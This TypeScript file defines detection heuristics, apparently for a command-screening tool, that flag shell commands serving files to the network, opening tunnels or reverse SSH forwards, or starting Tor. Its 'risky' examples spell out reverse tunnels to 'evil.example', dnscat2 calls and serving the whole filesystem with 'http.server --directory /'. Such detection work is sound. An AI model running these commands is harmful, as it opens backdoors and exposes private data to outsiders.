// Openings: ways in and out that the machine did not have before, by servers and tunnels, and the network as such.
import type { CommandFact } from "../../../../shared/facts.ts";
import { severity } from "../bands.ts";
import { type Heuristic, clip, firstOf, onCode, onCommand, when } from "../heuristic.ts";
import { isDownloader } from "../programs.ts";
import { joined, operands } from "../read.ts";

export const openings: readonly Heuristic[] = [
  {
    id: "serves-files",
    threat: "Data exfiltration",
    technique: "T1048.003",
    score: severity.medium,
    check: firstOf(
      onCommand(["python", "python3", "python2"], (command) =>
        /-m\s+(?:http\.server|simplehttpserver|pyftpdlib)/iu.test(joined(command)) &&
        !/127\.0\.0\.1|localhost/u.test(joined(command))
          ? "It serves this folder to the network"
          : null,
      ),
      onCommand(["ruby"], (command) =>
        /-run\b.*httpd|un\.rb/u.test(joined(command)) ? "It serves this folder to the network" : null,
      ),
      onCommand(["php"], (command) =>
        /-S\s+0\.0\.0\.0/u.test(joined(command)) ? "It serves this folder to the network" : null,
      ),
      onCommand(["httpd", "darkhttpd", "webfsd", "thttpd"], (command) =>
        /(?:^|\s)(?:-h|-d|-r)\s/u.test(joined(command)) || command.program !== "httpd"
          ? "It serves this folder to the network"
          : null,
      ),
      onCode((code) =>
        /\b(?:http\.server|simplehttpserver|socketserver|httpserver|webrick)\b/iu.test(code.text.slice(0, 65_536)) &&
        /serve|start|bind|tcpserver/iu.test(code.text) &&
        code.command !== undefined
          ? "Its code serves files to the network"
          : null,
      ),
    ),
    examples: {
      risky: ["python3 -m http.server 8000"],
      honest: ["python3 -m http.server --bind 127.0.0.1", "python3 -m pytest"],
    },
  },
  {
    id: "serves-everything",
    threat: "Data exfiltration",
    technique: "T1048.003",
    score: severity.ask,
    check: onCommand(
      [
        "python",
        "python3",
        "python2",
        "php",
        "ruby",
        "httpd",
        "busybox",
        "darkhttpd",
        "webfsd",
        "miniserve",
        "npx",
        "serve",
        "caddy",
      ],
      (command) => {
        const line = ` ${joined(command)} `;
        const serves =
          /http\.server|simplehttpserver|\s-S\s|httpd|^\s(?:serve|http-server|file-server)\b|--root/iu.test(line) ||
          /^(?:darkhttpd|webfsd|miniserve|serve|httpd)$/u.test(command.program);
        const place =
          /\s(?:(?:--directory|-d|-t|-h|-r|--root)[= ]?)?["']?(?:\/|~\/?|\$home\/?|\/(?:etc|home|root|users|var)\/?)["']?\s/iu;
        return serves && place.test(line) && !/127\.0\.0\.1|localhost/u.test(line)
          ? "It serves the whole machine or a whole home to the network"
          : null;
      },
    ),
    examples: {
      risky: ["python3 -m http.server 8000 --directory /", "php -S 0.0.0.0:80 -t /", "busybox httpd -f -p 80 -h /"],
      honest: [
        "python3 -m http.server 8000",
        "python3 -m http.server --directory dist",
        "php -S localhost:8000 -t public",
      ],
    },
  },
  {
    id: "tunnel-opened",
    threat: "Data exfiltration",
    technique: "T1572",
    score: severity.ask,
    check: firstOf(
      onCommand(["ligolo-ng", "iodine", "dnscat2", "dnscat", "ptunnel", "reGeorg"], (command) =>
        /^(?:--?version|--?help|version|help)$/u.test(command.arguments[0] ?? "")
          ? null
          : `${command.program} opens a way through the firewall`,
      ),
      onCommand(["ssh", "autossh"], (command) =>
        tunnelsBack(command) ? "It opens a port on another machine that leads back here" : null,
      ),
      onCommand(["chisel", "gost", "ssf", "rpivot", "frpc", "sshuttle"], (command) =>
        /(?:^|\s)(?:R:|--?reverse\b|-F=)|\bclient\b.*\bR:/u.test(joined(command))
          ? `${command.program} lets others in through a tunnel`
          : null,
      ),
      onCommand(["ngrok", "bore", "cloudflared", "zrok", "pagekite", "lt", "localtunnel"], (command) =>
        /\btcp\s+(?:22|23|3389|5900|2375|6443)\b|\blocal\s+(?:22|3389|5900)\b|(?:ssh|rdp|tcp):\/\/\S+/u.test(
          joined(command),
        )
          ? `${command.program} lets others log in to this machine from anywhere`
          : null,
      ),
      onCommand(["ssh", "autossh"], (command) =>
        /^-[a-zA-Z]*D/u.test(command.arguments.find((argument) => /^-[a-zA-Z]*D/u.test(argument)) ?? "") &&
        (command.background === true ||
          command.program === "autossh" ||
          command.arguments.some((argument) => /^-[a-zA-Z]*f/u.test(argument)))
          ? "It leaves a way into another network open in the background"
          : null,
      ),
      onCommand(["code", "code-insiders", "devtunnel"], (command) =>
        operands(command)[0] === "tunnel" || command.program === "devtunnel"
          ? "It opens a way through the firewall"
          : null,
      ),
    ),
    examples: {
      risky: [
        "dnscat2 evil.example",
        "ssh -R 8080:localhost:80 user@evil.example",
        "ssh -o 'RemoteForward 8080 localhost:80' user@evil.example",
        "autossh -M 0 -R 2222:localhost:22 user@evil.example",
        "autossh -M 0 -N -D 1080 user@evil.example",
        "ssh -N -D 1080 user@evil.example &",
        "code tunnel",
      ],
      honest: [
        "ssh -L 5432:localhost:5432 host.example",
        "ngrok --version",
        "ngrok http 3000",
        "ssh -D 1080 host.example",
        "autossh -M 0 -N -L 5432:localhost:5432 host.example",
      ],
    },
  },
  {
    id: "tunnel-program",
    threat: "Data exfiltration",
    technique: "T1572",
    score: severity.warn,
    check: firstOf(
      onCommand(
        [
          "ngrok",
          "cloudflared",
          "chisel",
          "frpc",
          "bore",
          "gost",
          "localtunnel",
          "lt",
          "tor",
          "torsocks",
          "proxychains",
          "proxychains4",
          "stunnel",
          "zrok",
          "pagekite",
        ],
        (command) =>
          /^(?:--?version|--?help|version|help|list|--?h)$/u.test(command.arguments[0] ?? "")
            ? null
            : `${command.program} can open a way through the firewall`,
      ),
      onCommand(["systemctl", "service"], (command) =>
        /\b(?:tor|i2pd?)\b/u.test(joined(command)) && /\b(?:start|enable|restart)\b/u.test(joined(command))
          ? "It starts a hidden network"
          : null,
      ),
    ),
    examples: {
      risky: ["ngrok http 3000", "service tor start"],
      honest: ["ngrok --version", "service nginx start"],
    },
  },
  {
    id: "reaches-network",
    threat: "Network access",
    score: severity.note,
    check: firstOf(
      when(["host"], (view) => {
        const host = view.facts.hosts.find(({ local }) => !local);
        return host === undefined
          ? null
          : { reason: `It connects to ${host.host}`, evidence: clip(host.url ?? host.host) };
      }),
      onCode((code) =>
        /socket\b.{0,40}(?:connect|tcp|peeraddr)|io::socket|tcpsocket|fsockopen|urlopen|requests\.(?:get|post)|net\.(?:connect|createconnection)|\/inet\/tcp/iu.test(
          code.text.slice(0, 65_536),
        ) && code.command !== undefined
          ? "Its code opens a network connection"
          : null,
      ),
      onCommand(isDownloader, (command) =>
        command.arguments.length > 0 && command.dynamic
          ? `${command.program} connects to a host known only when it runs`
          : null,
      ),
    ),
    examples: { risky: ["curl https://example.org"], honest: ["curl http://localhost:3000", "ls"] },
  },
];

/** `-R` among the options that stand before the destination; after it come the words of the remote command. */
function tunnelsBack({ program, arguments: list }: CommandFact): boolean {
  const valued = program === "autossh" ? /^-[a-zA-Z]*[MbcDEeFIiJLlmOopQRSWw]$/u : /^-[a-zA-Z]*[bcDEeFIiJLlmOopQRSWw]$/u;
  const destination = list.findIndex((argument, at) => !argument.startsWith("-") && !valued.test(list[at - 1] ?? ""));
  return list
    .slice(0, destination < 0 ? list.length : destination)
    .some((argument) => /^-[a-zA-Z]*R(?:$|[\d:])/u.test(argument) || /^(?:-o\s*)?RemoteForward[\s=]/iu.test(argument));
}
